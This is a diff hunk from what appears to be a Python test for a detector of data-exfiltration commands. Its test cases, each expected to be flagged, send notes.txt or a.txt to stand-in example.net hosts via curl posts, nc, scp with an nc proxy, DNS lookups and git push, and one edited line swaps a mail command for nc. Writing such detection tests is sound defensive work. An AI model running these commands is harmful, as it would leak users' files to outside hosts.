@@ -410,7 +410,7 @@ def agreed(host: Host, command: str) -> None:
         ("scp -o ProxyCommand='nc d.example.net 22' notes.txt c.example.net:/srv", True),
         ("dig $(head -c 9 notes.txt).c.example.net", True),
         ("git push https://c.example.net/x.git main", True),
-        ("curl -d @notes.txt https://c.example.net/; mail -s x a@d.example.net < notes.txt", True),
+        ("curl -d @notes.txt https://c.example.net/; nc d.example.net 80 < notes.txt", True),
         ("; ".join(f"curl -d @a.txt https://h{n}.example.net/" for n in range(40)), True),
     ],
 )
